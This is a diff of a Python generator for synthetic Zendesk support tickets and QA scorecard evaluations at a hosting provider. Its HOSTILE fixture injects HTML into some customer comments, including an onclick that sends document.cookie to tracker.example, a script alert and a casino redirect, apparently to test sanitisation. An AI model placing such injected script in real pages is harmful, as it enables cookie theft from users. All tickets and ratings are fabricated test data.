+    def add(self, role, paras, delay=None, attach=None, wrap=None, via=None, hostile=None, nofem=False):
         paras = list(paras)
         if wrap is None:
             wrap = self.wrap_default and role not in NOTE_ROLES
@@ -2189,7 +2249,7 @@ class Conversation:
         if role in ("e", "l1") and not self.first_agent_done:
             self.first_agent_done = True
         self.msgs.append({"role": role, "paras": paras, "delay": delay, "attach": attach,
-                          "via": via, "hostile": hostile})
+                          "via": via, "hostile": hostile, "nofem": nofem})
 
     def attach_maybe(self, spec, p):
         if spec and self.rng.random() < p:
@@ -2198,14 +2258,16 @@ class Conversation:
 
     def tail(self, items):
         ph, rng = self.ph, self.rng
-        for who, alts in items:
+        for item in items:
+            who, alts = item[0], item[1]
+            attach = list(item[2]) if len(item) > 2 else None
             optional = who.endswith("?")
             who = who.rstrip("?")
             if optional and rng.random() < (0.45 if who == "e" else 0.6):
                 continue
             if alts is None:
                 alts = ph["confirm"] if who == "c" else ph["close"]
-            self.add(who, pick(rng, alts))
+            self.add(who, pick(rng, alts), attach=attach)
 
 
 def first_delay(rng, team, slow):
@@ -2237,7 +2299,8 @@ def build_email(cv):
         cv.add("l2n", sc["consult"][1], delay=d_first * 0.5)
         d_first *= 0.2
     want_note = bool(sc.get("note")) and (
-        (team == "second-line" and "no_note" not in f) or (team == "first-line" and "consult" not in f and rng.random() < 0.12))
+        (team == "second-line" and rng.random() < (0.85 if QUALITY[cv.plan["eng"]] < 0.5 else 0.4)) or (team == "first-line" and "consult" not in f and rng.random() < 0.1))
+    cv.meta["own_note"] = want_note
     if want_note:
         cv.add("n", sc["note"], delay=d_first * 0.7)
         d_first *= 0.3
@@ -2249,10 +2312,18 @@ def build_email(cv):
     if "wrong" in f and sc.get("wrong_add"):
         full += sc["wrong_add"]
     attach_e = sc.get("attach_e")
-    lead = []
-    if "curt" in f:
+    lead, rude = [], []
+    two_rounds = not ("wrong" in f and sc.get("wrong")) and any(x in f for x in ("thin", "misread", "shallow"))
+    if "rude" in f:
+        # a reproach in the second answer ("I already wrote...") or in the first ("read the docs")
+        phrase = ph["rude"][0] if two_rounds else ph["rude"][1]
+        cv.meta["rude"] = phrase
+        if two_rounds:
+            rude = [phrase]
+        else:
+            lead = [phrase]
+    elif "curt" in f:
         lead = [pick(rng, ph["curt_prefix"])]
-    rude = [pick(rng, ph["rude"])] if "rude" in f else []
     wrong_tail = None
     if "wrong" in f and sc.get("wrong"):
         cv.add("e", lead + sc["wrong"], delay=d_first)
@@ -2274,7 +2345,7 @@ def build_email(cv):
         cv.add("c", sc["ask_shallow"])
         cv.add("e", rude + full, attach=attach_e)
     else:
-        cv.add("e", rude + lead + full, delay=d_first, attach=attach_e)
+        cv.add("e", lead + full, delay=d_first, attach=attach_e)
     if "unverified" in f:
         cv.add("c", sc["unv_fail"])
         cv.add("e", sc["unv_fix"])
@@ -2283,7 +2354,7 @@ def build_email(cv):
 
 PAID_TEXT = {
     "ru": {"late_cost": "Стоимость посчитаем по факту выполненных работ, счёт выставим после завершения.",
-           "nudge": ["Добрый день! По срокам работы уже должны были закончиться. Есть новости?"]},
+           "nudge": ["По срокам работы уже должны были закончиться. Есть новости?"]},
     "en": {"late_cost": "We'll calculate the cost from the actual work and invoice you afterwards.",
            "nudge": ["Hi, the work should have been finished by now. Any news?"]},
 }
@@ -2301,15 +2372,23 @@ def build_paid(cv):
     else:
         cv.add("e", sc["quote"] + access, delay=first_delay(rng, team, False))
         cv.add("c", sc["agree_plain"] if "pwd_plain" in f else sc["agree"],
-               attach=[("dev-key.pub", "text/plain", (90, 120))] if sc["key"] == "paid-lemp" else None)
+               attach=list(sc["agree_attach"]) if sc.get("agree_attach") else None)
+    note = "no_backup" in f or rng.random() < 0.4
     if "slow" in f:
         cv.add("c", pt["nudge"], delay=U(rng, 2800, 3600))
-        cv.add("n", sc["work_note_nb"] if "no_backup" in f else sc["work_note"], delay=U(rng, 60, 400))
+    if note:
+        cv.add("n", sc["work_note_nb"] if "no_backup" in f else sc["work_note"],
+               delay=U(rng, 60, 400) if "slow" in f else U(rng, 240, 1500))
+    if "report_thin" in f:
+        report = sc["report_thin"]
+    elif "no_backup" in f:
+        report = sc.get("report_nb", sc["report"])
     else:
-        cv.add("n", sc["work_note_nb"] if "no_backup" in f else sc["work_note"], delay=U(rng, 240, 1500))
-    report = sc["report_thin"] if "report_thin" in f else sc["report"]
+        report = list(sc["report"])
+        if not note and sc.get("backup_line"):
+            report = report[:-1] + sc["backup_line"] + report[-1:]
     rep_attach = [sc["attach_report"]] if sc.get("attach_report") else None
-    cv.add("e", report, delay=U(rng, 90, 900), attach=rep_attach)
+    cv.add("e", report, delay=U(rng, 90, 900) if note else U(rng, 600, 2400), attach=rep_attach)
     if "unverified" in f:
         cv.add("c", sc["unv_fail"])
         cv.add("e", sc["unv_fix"])
@@ -2351,8 +2430,8 @@ def build_chat(cv):
 
 
 IDENT_NOTE = {
-    "ru": {"full": "договор {acc}, идентифицирован по контрольному слову",
-           "part": "договор {acc}, назвал номер договора", "none": "договор {acc} со слов клиента"},
+    "ru": {"full": "договор {acc}, идентификация по контрольному слову",
+           "part": "договор {acc}, идентификация только по номеру договора", "none": "договор {acc} со слов клиента"},
     "en": {"full": "contract {acc}, verified with the security word",
            "part": "contract {acc}, contract number only", "none": "contract {acc} as stated by the caller"},
 }
@@ -2361,6 +2440,9 @@ IDENT_NOTE = {
 def build_call(cv):
     sc, f, rng, ph, ctx = cv.sc, cv.flags, cv.rng, cv.ph, cv.ctx
     A, Cc = ph["call_agent"], ph["call_cust"]
+    ru = cv.lang == "ru"
+    eng_f = ru and cv.plan["eng"] in FEMALE_ENGINEERS
+    cust_f = ru and ctx.get("cust_female")
     lines = [f"{A}: " + (ph["call_hello_bad"] if "no_greeting" in f else ph["call_hello"])]
     for l in sc["dialog"]:
         if l[0] == "IDENT":
@@ -2373,20 +2455,1113 @@ def build_call(cv):
             continue
         if not cond_ok(l[2] if len(l) > 2 else None, f):
             continue
-        lines.append(f"{A if l[0] == 'A' else Cc}: {l[1]}")
+        text = l[1]
+        if (l[0] == "A" and eng_f) or (l[0] == "C" and cust_f):
+            text = feminize(text)
+        lines.append(f"{A if l[0] == 'A' else Cc}: {text}")
     secs = sum(rng.randint(14, 38) for _ in lines)
     ctx["dur"] = ph["dur"].format(m=secs // 60, s=secs % 60)
     kind = "none" if "no_ident" in f else "part" if "ident_partial" in f else "full"
     ctx["ident_note"] = fill(IDENT_NOTE[cv.lang][kind], ctx)
-    cv.add("c", [ph["call_head"], "\n".join(lines)], delay=0, via="voice")
+    cv.add("c", [ph["call_head"], "\n".join(lines)], delay=0, via="voice", nofem=True)
     head = f"**{ph['summary_head']}.**"
-    body = sc["summary_thin"] if "no_summary" in f else sc["summary"]
+    body = sc["summary_thin"] if "no_summary" in f else \
+        list(sc["summary"]) + (sc.get("summary_follow", []) if "no_followup" not in f else [])
     cv.add("e", [head] + list(body), delay=secs / 60 + U(rng, 2, 9), wrap=False)
     cv.wrap_default = True          # what follows the call goes by e-mail
     if sc.get("followup") and "no_followup" not in f:
         cv.add("e", sc["followup"], delay=U(rng, 3, 25), attach=sc.get("attach_e"))
-    cv.tail(sc["tail"])
+        cv.tail(sc["tail"])          # the customer answers the letter
 
 
 BUILDERS = {"email": build_email, "paid": build_paid, "chat": build_chat, "call": build_call}
 
+# ---------------------------------------------------------------------------------------
+# Rendering a plan into a Zendesk ticket
+# ---------------------------------------------------------------------------------------
+
+HOSTILE = {
+    "ru": ('<p>В коде главной страницы нашли вот такую вставку (копируем как есть):</p>'
+           '<div onclick="window.location=\'https://casino.example/?ref=77\'">Вы выиграли! Нажмите, чтобы забрать приз</div>'
+           '<script>alert(1)</script><img src="https://tracker.example/pixel.gif" width="1" height="1">',
+           "В коде главной страницы нашли вот такую вставку (копируем как есть):\n\nВы выиграли! Нажмите, чтобы забрать приз"),
+    "en": ('<p>--<br><b>{cname}</b> | {site}<br>'
+           '<a href="https://{site}/" onclick="fetch(\'https://tracker.example/c?\'+document.cookie)">{site}</a></p>'
+           '<img src="https://tracker.example/pixel.gif" alt="" width="1" height="1"><script>alert(1)</script>',
+           "--\n{cname} | {site}\n{site}"),
+}
+
+SAT = {
+    "ru": {"good": ["Спасибо, быстро и понятно!", "Отличная поддержка.", "Всё объяснили по шагам, спасибо.", "",
+                    "Оперативно решили проблему.", "Спасибо инженеру, очень помог."],
+           "bad": {"slow": "Ответа ждал полдня.", "thin": "Первый ответ — отписка, пришлось переспрашивать.",
+                   "wrong": "Из-за неверного совета стало только хуже.", "curt": "Отвечают сухо и свысока.",
+                   "rude": "Грубый ответ, неприятно.", "shallow": "Сначала просто перезапустили, причину пришлось выпытывать.",
+                   "slow_chat": "Долго ждал ответа в чате.", "no_quote": "Цену назвали уже после работ.",
+                   "slow_paid": "Работы закончили позже обещанного, пришлось напоминать.",
+                   "misread": "Не сразу поняли, что мне нужно.", "unverified": "Пришлось писать повторно — не проверили.",
+                   None: "Долго и непонятно."}},
+    "en": {"good": ["Quick and clear, thanks!", "Great support.", "", "Very helpful, explained everything.",
+                    "Solved fast, thank you."],
+           "bad": {"slow": "Waited way too long for a reply.", "thin": "First answer was useless, had to ask again.",
+                   "wrong": "The advice made things worse.", "curt": "Unfriendly replies.", "rude": "Rude reply.",
+                   "shallow": "Took two rounds to get a real answer.", "slow_chat": "Slow responses in chat.",
+                   "no_quote": "Price was only mentioned after the work.", "misread": "They didn't read my question.",
+                   "slow_paid": "The work took longer than promised.",
+                   "unverified": "Had to come back because it wasn't fixed.", None: "Not great."}},
+}
+BAD_FLAGS = ["wrong", "rude", "slow", "slow_chat", "thin", "shallow", "no_quote", "unverified", "curt", "misread"]
+
+
+class Ids:
+    def __init__(self):
+        self.comment = 900000
+        self.attachment = 7000000
+
+    def next_comment(self):
+        self.comment += 1
+        return self.comment
+
+    def next_attachment(self):
+        self.attachment += 1
+        return self.attachment
+
+
+def make_attachment(rng, ids, spec, ctx):
+    name, ctype, (lo, hi) = spec
+    name = fill(name, ctx)
+    token = "".join(rng.choice(string.ascii_letters + string.digits) for _ in range(25))
+    return {"id": ids.next_attachment(), "file_name": name,
+            "content_url": f"https://demo.zendesk.example/attachments/token/{token}/?name={name}",
+            "content_type": ctype, "size": rng.randint(lo, hi)}
+
+
+def default_delay(rng, team, prev_role, role):
+    if role in NOTE_ROLES:
+        return U(rng, 3, 35)
+    if team == "chats":
+        return U(rng, 0.3, 2.0)
+    if role == "c":
+        return U(rng, 20, 600) if rng.random() < 0.85 else U(rng, 900, 1500)
+    if prev_role in NOTE_ROLES:
+        return U(rng, 3, 30)
+    return {"first-line": U(rng, 15, 150), "second-line": U(rng, 30, 420),
+            "paid-services": U(rng, 30, 300), "calls": U(rng, 30, 300)}[team]
+
+
+def make_ctx(plan, customer, people):
+    c = customer
+    created = plan["created"] + dt.timedelta(hours=3)      # dates in texts are Moscow dates
+    ctx = {
+        "dom": c["site"], "site": c["site"], "cname": c["name"], "cfirst": c["first"], "cemail": c["email"],
+        "acc": c["acc"], "acc_l": c["acc_l"], "ip": c["ip"], "ip2": c["ip2"], "gw": "203.0.113.1",
+        "srv": c["ds"] if "dedicated" in plan["sc"]["tags"] else c["vps"], "phone": c["phone"],
+        "mbox": c["mbox"], "n": plan["n"], "cust_female": c["female"],
+        "date": created.strftime("%d.%m.%Y"),
+        "date_before": (created - dt.timedelta(days=2)).strftime("%d.%m.%Y"),
+        "date_before2": (created - dt.timedelta(days=9)).strftime("%d.%m.%Y"),
+        "date_next": created.replace(year=created.year + 1).strftime("%d.%m.%Y"),
+    }
+    return ctx
+
+
+def render_ticket(rng, plan, customer, people, user_ids, ids):
+    ctx = make_ctx(plan, customer, people)
+    ctx["ename"] = display_name(plan["eng"], people[plan["eng"]], plan["lang"])
+    ctx["efirst"] = ctx["ename"].split()[0]
+    cv = Conversation(plan, ctx, rng)
+    BUILDERS[plan["sc"]["kind"]](cv)
+    team = plan["team"]
+
+    # times
+    offsets, t, prev = [], 0.0, None
+    for i, m in enumerate(cv.msgs):
+        d = 0.0 if i == 0 else (m["delay"] if m["delay"] is not None else default_delay(rng, team, prev, m["role"]))
+        t += max(d, 0.15)
+        offsets.append(t)
+        prev = m["role"]
+    msgs = cv.msgs
+    if not plan["solved"]:
+        k = rng.randint(2, max(2, min(len(msgs) - 1, 5)))
+        while k > 2 and msgs[k - 1]["role"] in NOTE_ROLES and msgs[k - 1]["role"] != "l1n":
+            k -= 1
+        if plan["created"] >= NOW - dt.timedelta(days=10) and rng.random() < 0.5:
+            # a fresh ticket: the customer wrote last and waits for us (open)
+            ends = [i + 1 for i, m in enumerate(msgs[:-1]) if m["role"] == "c" and i >= 1]
+            if ends:
+                k = rng.choice(ends)
+        elif plan["created"] < NOW - dt.timedelta(days=12):
+            # an old unsolved ticket waits for the customer (pending), not for us
+            ends = [i + 1 for i, m in enumerate(msgs[:-1]) if m["role"] in ("e", "l1") and i >= 1]
+            if ends:
+                k = rng.choice(ends)
+        msgs, offsets = msgs[:k], offsets[:k]
+    limit = (NOW - plan["created"]).total_seconds() / 60 - (150 if plan["solved"] else 30)
+    if offsets[-1] > limit:
+        factor = max(limit, 10) / offsets[-1]
+        offsets = [o * factor for o in offsets]
+
+    # comments
+    comments = []
+    for m, off in zip(msgs, offsets):
+        role = m["role"]
+        if role == "c":
+            author = user_ids["cust"][plan["cust"]]
+            female = customer["female"]
+            actx = ctx
+        else:
+            login = cv.author_login(role)
+            author = user_ids["agent"][login]
+            female = login in FEMALE_ENGINEERS
+            person = people[login]
+            name = display_name(login, person, plan["lang"])
+            actx = dict(ctx, ename=name, efirst=name.split()[0])
+        paras = fill_paras(m["paras"], actx)
+        if female and plan["lang"] == "ru" and not m["nofem"]:
+            paras = feminize_paras(paras)
+        html_body, plain = to_html(paras), to_plain(paras)
+        if m["hostile"]:
+            h_html, h_plain = (fill(x, ctx) for x in HOSTILE[m["hostile"]])
+            if m["hostile"] == "ru" and len(paras) > 1:
+                html_body = to_html(paras[:-1]) + h_html + to_html(paras[-1:])
+                plain = to_plain(paras[:-1]) + "\n\n" + h_plain + "\n\n" + to_plain(paras[-1:])
+            else:
+                html_body += h_html
+                plain += "\n\n" + h_plain
+        if plan["channel"] == "chat":
+            via = "chat"
+        elif m["via"] == "voice":
+            via = "voice"
+        elif role == "c":
+            via = plan["channel"] if plan["channel"] in ("email", "web") and not comments else "email"
+            if plan["channel"] == "web" and comments:
+                via = "web"
+        else:
+            via = "web"
+        created = plan["created"] + dt.timedelta(seconds=round(off * 60))
+        comments.append({
+            "id": ids.next_comment(), "type": "Comment", "author_id": author,
+            "body": plain, "html_body": html_body, "plain_body": plain,
+            "public": role not in NOTE_ROLES,
+            "attachments": [make_attachment(rng, ids, a, ctx) for a in (m["attach"] or [])],
+            "via": {"channel": via}, "created_at": iso(created), "_role": role,
+        })
+
+    last = parse_iso(comments[-1]["created_at"])
+    ticket = {"_plan": plan, "_cv": cv}
+    if plan["solved"]:
+        solved_at = last + minutes(U(rng, 0.5, 6) if team == "chats" else U(rng, 3, 110))
+        closed = solved_at + dt.timedelta(days=4) < NOW
+        status = "closed" if closed else "solved"
+        updated = solved_at + dt.timedelta(days=4, minutes=rng.randint(1, 50)) if closed else solved_at
+    else:
+        solved_at = None
+        last_public = [c for c in comments if c["public"]][-1]
+        status = "pending" if last_public["_role"] != "c" and comments[-1]["public"] else "open"
+        if status == "open" and rng.random() < 0.3 and comments[-1]["_role"] == "c":
+            status = "open"
+        updated = last + minutes(rng.randint(0, 20))
+        if updated > NOW:
+            updated = last
+    rating = None
+    if plan["solved"] and rng.random() < 0.47:
+        bad = [f for f in BAD_FLAGS if f in plan["flags"]]
+        r = rng.random()
+        if r < 0.11:
+            rating = {"score": "offered", "comment": ""}
+        elif bad and rng.random() < 0.5 or (not bad and rng.random() < 0.05):
+            key = bad[0] if bad else None
+            if key == "slow" and team == "paid-services":
+                key = "slow_paid"
+            rating = {"score": "bad", "comment": SAT[plan["lang"]]["bad"][key]}
+        else:
+            rating = {"score": "good", "comment": rng.choice(SAT[plan["lang"]]["good"])}
+        if rating["score"] != "offered" and status == "solved":
+            updated = max(updated, solved_at + minutes(rng.randint(10, 600)))
+            if updated > NOW:
+                updated = NOW - minutes(rng.randint(5, 60))
+                updated = max(updated, solved_at)
+    elif not plan["solved"] and rng.random() < 0.25:
+        rating = {"score": "unoffered", "comment": ""}
+
+    tags = [LINE_TAG[team]]
+    if "bad_tags" not in plan["flags"]:
+        tags += plan["sc"]["tags"]
+    if plan["esc"]:
+        tags.append("escalated")
+    if plan["lang"] == "en":
+        tags.append("lang_en")
+    zt = {
+        "url": f"https://demo.zendesk.example/api/v2/tickets/{plan['id']}.json",
+        "id": plan["id"], "via": {"channel": plan["channel"]},
+        "created_at": iso(plan["created"]), "updated_at": iso(updated),
+        "type": plan["sc"]["ztype"], "subject": fill(pick(rng, plan["sc"]["subj"]), ctx),
+        "priority": plan["sc"]["priority"], "status": status,
+        "requester_id": user_ids["cust"][plan["cust"]], "submitter_id": user_ids["cust"][plan["cust"]],
+        "assignee_id": user_ids["agent"][plan["eng"]], "organization_id": None,
+        "group_id": GROUP_IDS[team], "tags": tags,
+    }
+    zt["raw_subject"] = zt["subject"]
+    if rating:
+        zt["satisfaction_rating"] = rating
+    zt["comments"] = comments
+    ticket.update(zt=zt, solved_at=solved_at, ctx=ctx)
+    return ticket
+
+# ---------------------------------------------------------------------------------------
+# Scoring (spec/scoring.md)
+# ---------------------------------------------------------------------------------------
+
+def crit_setting(card, crit, key, default):
+    if key in crit:
+        return crit[key]
+    return card.get(key, default)
+
+
+def score_evaluation(card, answers):
+    """Returns the same fields as scoring-vectors.json's "expect"."""
+    fails_on = card.get("critical_fails_on", ["no"])
+    missing, complete, critical_failed = [], True, False
+    total_w, total_ws = 0.0, 0.0
+    for sec in card["sections"]:
+        sw, sws = 0.0, 0.0
+        for c in sec["criteria"]:
+            a = answers.get(c["id"])
+            if a is None:
+                complete = False
+                continue
+            v = a["value"]
+            if v in crit_setting(card, c, "comment_required_for", ["no", "partly"]) \
+                    and not str(a.get("comment") or "").strip():
+                missing.append(c["id"])
+                complete = False
+            if c.get("critical", False) and v in fails_on:
+                critical_failed = True
+            if v == "na":
+                continue
+            credit = 1.0 if v == "yes" else 0.0 if v == "no" else float(crit_setting(card, c, "partial_credit", 0.5))
+            w = float(c.get("weight", 1))
+            sw += w
+            sws += w * credit
+        if sw > 0:
+            W = float(sec.get("weight", 1))
+            total_w += W
+            total_ws += W * (sws / sw)
+    if total_w == 0:
+        return {"scored": False, "score": None, "uncapped_score": None, "critical_failed": critical_failed,
+                "complete": complete, "missing_comments": missing}
+    uncapped = 100.0 * total_ws / total_w
+    return {"scored": True, "score": 0.0 if critical_failed else uncapped, "uncapped_score": uncapped,
+            "critical_failed": critical_failed, "complete": complete, "missing_comments": missing}
+
+
+def check_vectors(path):
+    data = json.load(open(path, encoding="utf-8"))
+    bad = 0
+    for case in data["cases"]:
+        got = score_evaluation(case["scorecard"], case["answers"]["answers"])
+        exp = case["expect"]
+        for k, v in exp.items():
+            g = got[k]
+            same = (g == v) if not isinstance(v, float) or g is None else abs(g - v) < 1e-9
+            if not same:
+                bad += 1
+                print(f"vector '{case['name']}': {k} = {g!r}, expected {v!r}")
+    print(f"scoring vectors: {len(data['cases'])} cases, {bad} mismatches")
+    return bad == 0
+
+
+# ---------------------------------------------------------------------------------------
+# Evaluations
+# ---------------------------------------------------------------------------------------
+
+GENERIC_COMMENT = {
+    "thin": "Первый ответ без диагностики и конкретных шагов — клиенту пришлось переспрашивать",
+    "misread": "Сначала ответил не на тот вопрос, клиенту пришлось повторять",
+    "no_workaround": "Не предложил временного решения, пока основная проблема не устранена",
+    "unverified": "Не проверил результат — клиент вернулся с той же проблемой",
+    "wrong": "Дана неверная информация",
+    "shallow": "Причина не найдена с первого раза, первый ответ без диагностики",
+    "bad_note": "Заметка для второй линии без деталей: нет аккаунта и того, что уже проверено",
+    "no_note": "Результаты диагностики не зафиксированы во внутренней заметке — коллегам придётся разбираться заново",
+    "no_closing": "Не уточнил, остались ли вопросы, чат завершён без прощания",
+    "no_greeting": "Не представился: ответил «Да, слушаю» без названия компании и имени",
+    "interrupt": "Перебил клиента, не дав договорить",
+    "curt": "Сухо: без обращения по имени и нормальной подписи",
+    "pwd_plain": "Запросил пароль в тексте тикета вместо защищённой формы",
+    "report_thin": "Финальный ответ без перечня работ и результатов проверки",
+    "no_followup": "Не отправил клиенту письмо с итогами звонка",
+    "no_quote": "Работы начаты без согласования стоимости и объёма",
+    "no_backup": "Изменения на сервере без предварительного снапшота и бэкапа",
+    "no_ident": "Клиент не идентифицирован перед действиями с аккаунтом",
+    "ident_partial": "Идентификация только по номеру договора, без контрольного слова",
+}
+POSITIVE_OVERALL = [
+    "Отличная работа: {good}.", "Хороший пример для базы ответов: {good}.", "Замечаний нет. {good_cap}.",
+    "Всё по регламенту, {good}.",
+]
+NEGATIVE_OVERALL = [
+    "Основное замечание: {issue}. В остальном хорошо.", "{issue_cap}. Обсудим на разборе.",
+    "Есть над чем поработать: {issue}.", "{issue_cap} — остальное по регламенту.",
+]
+CRITICAL_OVERALL = "Критическая ошибка: {issue}. Разбираем на еженедельной планёрке, ответ добавлен в учебные примеры."
+CALIBRATION_CHANGE = {
+    "first-line": [("first-answer", "Ответ верный, но без ссылки на инструкцию в базе знаний — по нашему стандарту это «частично»"),
+                   ("tags", "Проставлен тег линии и одна тема, вторая тема не отмечена — считаю «частично»")],
+    "second-line": [("explained", "Объяснение для клиента слишком техническое, без вывода «что делать, чтобы не повторилось»")],
+    "chats": [("polite", "Вежливо, но три шаблонные фразы подряд — клиент это замечает"),
+              ("complete", "Ответ дан, но без ссылки на инструкцию — клиенту пришлось бы искать самому")],
+    "calls": [("followup", "Письмо отправлено, но без номера заявки — считаю «частично»")],
+}
+CALIBRATION_COMMENT = {
+    True: "Калибровка: не согласна с исходной оценкой идентификации — без контрольного слова идентификация не пройдена, по регламенту это критическая ошибка.",
+    False: "Калибровка: в целом согласна с исходной оценкой, расхождение в одном критерии.",
+}
+
+
+def cap(s):
+    return s[:1].upper() + s[1:] if s else s
+
+
+def low(s):
+    return s[:1].lower() + s[1:] if s and not s[:2].isupper() else s
+
+
+def max_chat_gap(ticket):
+    """Longest wait of the customer for an agent message in a chat, minutes."""
+    cs = ticket["zt"]["comments"]
+    gap = 0.0
+    for a, b in zip(cs, cs[1:]):
+        if b["_role"] == "e":
+            last_c = a
+            gap = max(gap, (parse_iso(b["created_at"]) - parse_iso(last_c["created_at"])).total_seconds() / 60)
+    # count from the customer's message before a "where are you?" nudge as well
+    for i in range(1, len(cs) - 1):
+        if cs[i]["_role"] == "c" and cs[i - 1]["_role"] == "c" and cs[i + 1]["_role"] == "e":
+            gap = max(gap, (parse_iso(cs[i + 1]["created_at"]) - parse_iso(cs[i - 1]["created_at"])).total_seconds() / 60)
+    return gap
+
+
+def first_reply_minutes(ticket):
+    cs = ticket["zt"]["comments"]
+    plan = ticket["_plan"]
+    start = parse_iso(cs[0]["created_at"])
+    if plan["esc"]:
+        start = parse_iso(next(c for c in cs if c["_role"] == "l1n")["created_at"])
+    first = next(c for c in cs if c["_role"] == "e" and c["public"])
+    return (parse_iso(first["created_at"]) - start).total_seconds() / 60
+
+
+def hm(minutes_):
+    h, m = divmod(int(round(minutes_)), 60)
+    return f"{h} ч {m:02d} мин" if h else f"{m} мин"
+
+
+def eval_answers(rng, ticket):
+    plan, sc, f = ticket["_plan"], ticket["_plan"]["sc"], ticket["_plan"]["flags"]
+    cv = ticket["_cv"]
+    team, eng = plan["team"], plan["eng"]
+    weak = dict((login_of(p["email"]), q) for p, q in ENGINEERS)[eng] > 2
+
+    def hint(flag):
+        return sc["hints"].get(flag) or GENERIC_COMMENT.get(flag, "")
+
+    clean = not (set(f) - {"consult"})
+
+    def good():
+        return hint("good") if clean and rng.random() < 0.3 else None
+
+    typos = "Ошибки: " + ", ".join(f"«{t}»" for t in cv.typos_found) if cv.typos_found else None
+    ans = {}
+
+    def A(cid, value, comment=None):
+        ans[cid] = (value, comment)
+
+    issues, critical = [], None
+    if team == "first-line":
+        A("understood", "partly", hint("misread")) if "misread" in f else A("understood", "yes")
+        if "thin" in f:
+            A("first-answer", "no" if weak and rng.random() < 0.6 else "partly", hint("thin"))
+        elif "wrong" in f and sc.get("wrong"):
+            A("first-answer", "partly", "Первый ответ содержал неверный совет, полный ответ — только после жалобы клиента")
+        else:
+            A("first-answer", "yes", good())
+        if not sc.get("wa"):
+            A("workaround", "na")
+        elif "no_workaround" in f:
+            A("workaround", "no", hint("no_workaround"))
+        else:
+            A("workaround", "yes")
+        A("correct-info", "no", hint("wrong")) if "wrong" in f else A("correct-info", "yes")
+        if "verified" in sc["na"]:
+            A("verified", "na")
+        elif "unverified" in f:
+            A("verified", "no", hint("unverified"))
+        else:
+            A("verified", "yes")
+        if "slow" in f:
+            A("sla", "no", f"Первый ответ через {hm(first_reply_minutes(ticket))} при нормативе 2 часа, клиент писал повторно")
+        else:
+            A("sla", "yes")
+        A("tags", "partly", f"Не проставлен тег темы «{sc['tags'][0]}», только тег линии") if "bad_tags" in f else A("tags", "yes")
+        if "consult" in f:
+            A("escalation", "partly", hint("bad_note")) if "bad_note" in f else \
+                A("escalation", "yes", "Заметка для второй линии по делу: что проверено и что нужно посмотреть" if rng.random() < 0.3 else None)
+        else:
+            A("escalation", "na")
+        if "rude" in f:
+            A("polite", "no", f"Упрёк клиенту в ответе: «{cv.meta['rude']}»")
+        elif "curt" in f:
+            A("polite", "partly", hint("curt"))
+        else:
+            A("polite", "yes")
+        A("grammar", "partly", typos) if typos else A("grammar", "yes")
+    elif team == "second-line":
+        own_note = cv.meta.get("own_note")
+        if "shallow" in f:
+            A("root-cause", "partly", hint("shallow"))
+            A("logs", "partly" if own_note else "no",
+              "Первый вывод сделан без проверки логов" + ("" if own_note else "; в заметках следов диагностики нет"))
+        else:
+            A("root-cause", "yes", good())
+            A("logs", "yes")
+        A("correct-info", "no", hint("wrong")) if "wrong" in f else A("correct-info", "yes")
+        if not sc.get("wa"):
+            A("workaround", "na")
+        elif "no_workaround" in f:
+            A("workaround", "no", hint("no_workaround"))
+        else:
+            A("workaround", "yes")
+        A("explained", "partly", "Клиенту пришлось самому спрашивать, в чём причина") if "shallow" in f else A("explained", "yes")
+        if "slow" in f:
+            A("sla", "no", f"Ответ второй линии через {hm(first_reply_minutes(ticket))} при нормативе 24 часа")
+        else:
+            A("sla", "yes")
+        if own_note:
+            A("internal-note", "yes")
+        elif "shallow" in f:
+            A("internal-note", "no", "Диагностика не зафиксирована ни в заметке, ни в первом ответе — коллеге пришлось бы начинать заново")
+        else:
+            A("internal-note", "na")
+        A("grammar", "partly", typos) if typos else A("grammar", "yes")
+    elif team == "calls":
+        A("greeting", "partly", hint("no_greeting")) if "no_greeting" in f else A("greeting", "yes")
+        if "no_ident" in f:
+            A("identification", "no", hint("no_ident"))
+        elif "ident_partial" in f:
+            A("identification", "partly", hint("ident_partial"))
+        else:
+            A("identification", "yes")
+        A("understood", "partly", hint("misread")) if "misread" in f else A("understood", "yes")
+        A("solution", "yes", good())
+        A("polite", "partly", hint("interrupt")) if "interrupt" in f else A("polite", "yes")
+        if "no_summary" in f:
+            A("summary", "partly", "Резюме из одной фразы: «" + to_plain(fill_paras(sc["summary_thin"], ticket["ctx"])) + "» — нет договора, сути и результата")
+        elif typos:
+            A("summary", "yes", typos + " — на оценку не влияет, но поправьте")
+        else:
+            A("summary", "yes")
+        if not sc.get("followup"):
+            A("followup", "na")
+        elif "no_followup" in f:
+            A("followup", "no", hint("no_followup"))
+        else:
+            A("followup", "yes")
+    elif team == "chats":
+        if "slow_chat" in f:
+            gap = max_chat_gap(ticket)
+            A("speed", "no" if gap >= 9 else "partly", f"Пауза {hm(gap)} без предупреждения, клиент переспрашивал, на связи ли инженер")
+        else:
+            A("speed", "yes")
+        A("understood", "partly", hint("misread")) if "misread" in f else A("understood", "yes")
+        A("correct-info", "no", hint("wrong")) if "wrong" in f else A("correct-info", "yes")
+        A("complete", "partly", hint("thin")) if "thin" in f else A("complete", "yes", good())
+        A("polite", "partly", "Без приветствия и представления: «" + cv.msgs[1]["paras"][0] + "»") if "curt" in f else A("polite", "yes")
+        A("grammar", "partly", typos) if typos else A("grammar", "yes")
+        A("closing", "no", hint("no_closing")) if "no_closing" in f else A("closing", "yes")
+    elif team == "paid-services":
+        A("scope-cost", "no", hint("no_quote")) if "no_quote" in f else A("scope-cost", "yes")
+        if "pwd_plain" in f:
+            A("access", "partly", hint("pwd_plain"))
+        elif sc.get("access_na"):
+            A("access", "na", "Сервер на нашем администрировании, доступы не запрашивались — так и должно быть")
+        else:
+            A("access", "yes", "Доступы запрошены через защищённую форму" if rng.random() < 0.3 else None)
+        if "backup" in sc["na"]:
+            A("backup", "na", hint("backup_na"))
+        elif "no_backup" in f:
+            A("backup", "no", hint("no_backup"))
+        else:
+            A("backup", "yes")
+        A("done", "partly", "Работы завершены позже обещанного срока, клиенту пришлось напоминать") if "slow" in f else A("done", "yes")
+        A("verified", "no", hint("unverified")) if "unverified" in f else A("verified", "yes")
+        A("report", "no", hint("report_thin")) if "report_thin" in f else A("report", "yes", good())
+        A("polite", "partly", typos) if typos else A("polite", "yes")
+
+    card = CARD_BY_ID[team]
+    fem = eng in FEMALE_ENGINEERS
+    answers = {}
+    for sec in card["sections"]:
+        for c in sec["criteria"]:
+            v, cm = ans[c["id"]]
+            a = {"value": v}
+            if cm:
+                a["comment"] = feminize(cm) if fem else cm
+            answers[c["id"]] = a
+    return answers
+
+
+def cv_text(cv):
+    return "\n".join(to_plain(m["paras"]) for m in cv.msgs)
+
+
